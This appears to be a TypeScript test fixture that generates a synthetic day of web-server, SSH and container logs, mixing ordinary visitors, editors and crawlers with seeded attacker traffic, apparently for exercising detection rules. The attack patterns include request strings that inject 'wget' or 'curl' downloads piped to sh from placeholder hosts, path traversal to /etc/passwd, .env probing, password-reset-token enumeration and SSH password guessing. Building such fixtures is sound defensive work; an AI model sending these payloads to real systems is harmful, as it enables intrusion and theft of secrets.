import type { SampleLine, SampleSource } from '../../../sigma/samples/sample.js';

/** One line of made-up traffic. */
export type TrafficLine = SampleLine;

const DAY_MS = 86_400_000;
const START = Date.UTC(2026, 2, 2);

/** Numbers of a seed (linear congruence; Numerical Recipes). */
export function seeded(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state / 2 ** 32;
  };
}

function clf(atMs: number): string {
  const [, day, month, year, time] = new Date(atMs).toUTCString().split(/[ ,]+/);
  return `${day}/${month}/${year}:${time} +0000`;
}

/** A line of nginx's access log. */
export function access(atMs: number, ip: string, request: string, status: number, agent = 'Mozilla/5.0'): TrafficLine {
  const text = `${ip} - - [${clf(atMs)}] "${request} HTTP/1.1" ${status} ${status === 200 ? 8120 : 153} "-" "${agent}"`;
  return { at: new Date(atMs), source: 'nginx-access', text, event: null };
}

/** A line of auth.log. */
export function auth(atMs: number, message: string): TrafficLine {
  return { at: new Date(atMs), source: 'auth', text: `${new Date(atMs).toISOString()} web ${message}`, event: null };
}

function app(atMs: number, message: string, source: SampleSource = 'app'): TrafficLine {
  const at = new Date(atMs);
  return {
    at,
    source,
    text: JSON.stringify({ log: `${message}\n`, stream: 'stdout', time: at.toISOString() }),
    event: null,
  };
}

function happened(atMs: number, category: string, fields: Record<string, string | number | boolean>): TrafficLine {
  const product = category === 'health' ? 'candor' : 'linux';
  return {
    at: new Date(atMs),
    source: 'event',
    text: '',
    event: { logsource: { product, category, service: 'sensor' }, fields },
  };
}

type Random = () => number;

/** Visitors: a page, its prefetches (25, 60 or 120 links), its pictures, a missing one now and then. */
function* visitors(random: Random): Generator<TrafficLine> {
  for (let visit = 0; visit < 120; visit += 1) {
    const at = START + random() * DAY_MS;
    const ip = `198.51.100.${1 + Math.floor(random() * 250)}`;
    const page = Math.floor(random() * 900);
    yield access(at, ip, `GET /posts/${page}`, 200);
    const links = [25, 60, 120][visit % 3] ?? 25;
    for (let n = 0; n < links; n += 1)
      yield access(at + 200 + n * 20, ip, `GET /posts/${n}?_rsc=1ab2c`, random() < 0.05 ? 404 : 200);
    for (let n = 0; n < 40; n += 1)
      yield access(at + 300 + n * 15, ip, `GET /_next/image?url=%2Fapi%2Fmedia%2Ffile%2Fp-${n}.jpg&w=640&q=75`, 200);
    if (random() < 0.3) yield access(at + 900, ip, `GET /old/${page}.jpg`, 404);
    if (random() < 0.1) yield access(at + 60_000, ip, 'POST /contact', random() < 0.9 ? 303 : 500);
  }
}

/** Two hundred people behind one address, from eight o'clock on. */
function* office(random: Random): Generator<TrafficLine> {
  for (let person = 0; person < 200; person += 1) {
    const at = START + 8 * 3_600_000 + random() * 900_000;
    const mistypes = random() < 0.1 ? 1 + Math.floor(random() * 2) : 0;
    for (let n = 0; n < mistypes; n += 1) yield access(at + n * 8_000, '203.0.113.200', 'POST /api/users/login', 401);
    yield access(at + 20_000, '203.0.113.200', 'POST /api/users/login', 200);
    yield access(at + 21_000, '203.0.113.200', 'GET /api/users/me', 200);
    for (let n = 0; n < 10; n += 1)
      yield access(at + 30_000 + n * 30_000, '203.0.113.200', `GET /posts/${Math.floor(random() * 900)}`, 200);
  }
}

/** An editor: lists, drafts, uploads, server functions of the admin panel, an answer that asks for a missing field. */
function* editors(random: Random): Generator<TrafficLine> {
  for (let n = 0; n < 400; n += 1) {
    const at = START + 9 * 3_600_000 + n * 20_000;
    const id = Math.floor(random() * 1e6).toString(16);
    yield access(at, '203.0.113.44', `GET /api/posts/${id}?depth=0&draft=true`, 200);
    yield access(at + 2_000, '203.0.113.44', `PATCH /api/posts/${id}?autosave=true`, 200);
    yield access(at + 3_000, '203.0.113.44', 'POST /admin/collections/posts', 200);
    if (n % 10 === 0) yield access(at + 4_000, '203.0.113.44', 'POST /api/media', n % 40 === 0 ? 400 : 201);
    if (n % 7 === 0)
      yield access(at + 5_000, '203.0.113.44', `GET /api/users?where%5Bemail%5D%5Blike%5D=a${n}&limit=10`, 200);
  }
}

/** Crawlers with old links, one of them with somebody's shell command in a link. */
function* crawlers(random: Random): Generator<TrafficLine> {
  const agent = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
  for (let n = 0; n < 3_000; n += 1)
    yield access(
      START + n * 25_000,
      '66.249.66.1',
      `GET /posts/${Math.floor(random() * 4_000)}`,
      random() < 0.92 ? 200 : 404,
      agent,
    );
  for (let n = 0; n < 3; n += 1)
    yield access(START + n * 7_000_000, '66.249.66.1', 'GET /?q=$(wget+http://192.0.2.9/x|sh)', 200, agent);
}

/** What every public server sees: refused probes, and guessing over SSH. */
function* noise(random: Random): Generator<TrafficLine> {
  for (let n = 0; n < 10_000; n += 1)
    yield access(
      START + n * 8_640,
      `192.0.2.${1 + Math.floor(random() * 250)}`,
      `GET /probe/${n % 700}.php`,
      404,
      'zgrab/0.x',
    );
  for (let n = 0; n < 2_000; n += 1)
    yield auth(
      START + n * 43_000,
      `sshd[${n}]: Failed password for invalid user admin from 192.0.2.${1 + (n % 40)} port 4${n % 1000} ssh2`,
    );
}

/** The server itself: a deploy at noon, jobs, media, the database, the operator. */
function* server(): Generator<TrafficLine> {
  const noon = START + DAY_MS / 2;
  for (let n = 0; n < 12; n += 1)
    yield app(
      noon + n * 4_000,
      'Error: Failed to find Server Action "4f1a". This request might be from an older or newer deployment.',
    );
  for (let n = 0; n < 30; n += 1) yield access(noon + n * 500, `198.51.100.${n + 1}`, 'GET /', 502);
  for (let n = 0; n < 300; n += 1)
    yield happened(noon + n, 'file_event', {
      'file.path': `/usr/lib/x/${n}`,
      'event.action': 'modified',
      'candor.cause': 'package',
    });
  yield happened(noon + 90_000, 'health', { 'event.action': 'silent', 'event.reason': 'container stopped' });
  for (let n = 0; n < 200; n += 1) {
    const at = START + n * 400_000;
    yield happened(at, 'process_creation', {
      'process.executable': '/usr/bin/ffmpeg',
      'process.command_line': 'ffmpeg -i a.mp4 b.mp4',
      'container.name': 'site-app-1',
      'candor.known': true,
    });
    yield happened(at + 500, 'process_creation', {
      'process.executable': '/bin/sh',
      'process.command_line': 'sh -c "run-parts /etc/cron.hourly"',
    });
    yield app(at + 700, "Error: page render failed { digest: '19344' }");
    yield app(
      at + 900,
      `{"t":{"$date":"x"},"c":"NETWORK","id":22943,"msg":"Connection accepted","attr":{"remote":"172.18.0.9:${5000 + n}"}}`,
      'mongodb',
    );
    yield auth(at, `CRON[${n}]: (root) CMD (run-parts /etc/cron.hourly)`);
  }
  yield auth(noon, 'sshd[9]: Failed password for ada from 203.0.113.44 port 5 ssh2');
  yield auth(noon + 5_000, 'sshd[9]: Accepted password for ada from 203.0.113.44 port 5 ssh2');
}

/** A day of ordinary traffic, in the order of its times. */
export function ordinaryDay(seed: number): TrafficLine[] {
  const random = seeded(seed);
  const lines = [visitors, office, editors, crawlers, noise].flatMap((make) => [...make(random)]);
  return [...lines, ...server()].sort((a, b) => a.at.getTime() - b.at.getTime());
}

const attacks: readonly ((n: number, ip: string, at: number, random: Random) => TrafficLine)[] = [
  (n, ip, at) => access(at, ip, `GET /cgi-bin/${n}?x=$(curl+http://192.0.2.7/${n}|sh)`, 404),
  (_, ip, at, random) =>
    access(at, ip, `GET /${Math.floor(random() * 1e9).toString(36)}/.env`, random() < 0.5 ? 404 : 403),
  (_, ip, at) => access(at, ip, 'POST /api/users/login', 401),
  (n, ip, at) => access(at, ip, `GET /api/collection-${n}`, 403),
  (n, ip, at) => access(at, ip, `GET /api/media/file/..%2f..%2f${n}/etc/passwd`, 400),
  (n, ip, at) => access(at, ip, `GET /api/users?where[resetPasswordToken][like]=${n}`, 200),
  (n, ip, at) => auth(at, `sshd-session[${n}]: Failed password for root from ${ip} port 5${n} ssh2`),
  (_, ip, at, random) => access(at, ip, 'POST /', random() < 0.7 ? 500 : 404),
  (_, ip, at) => access(at, ip, 'POST /api/users/forgot-password', 200),
];

/** Attackers, each with an address of its own and ten to forty lines of one kind, within minutes. */
export function attackers(count: number, seed: number): { readonly ip: string; readonly lines: TrafficLine[] }[] {
  const random = seeded(seed);
  return Array.from({ length: count }, (_, index) => {
    const ip = `100.64.${Math.floor(index / 250)}.${1 + (index % 250)}`;
    const attack = attacks[index % attacks.length];
    let at = START + random() * DAY_MS * 0.9;
    const lines = Array.from({ length: 10 + Math.floor(random() * 30) }, (_, n) => {
      at += random() * 30_000;
      return attack?.(n, ip, at, random);
    });
    return { ip, lines: lines.filter((line) => line !== undefined) };
  });
}
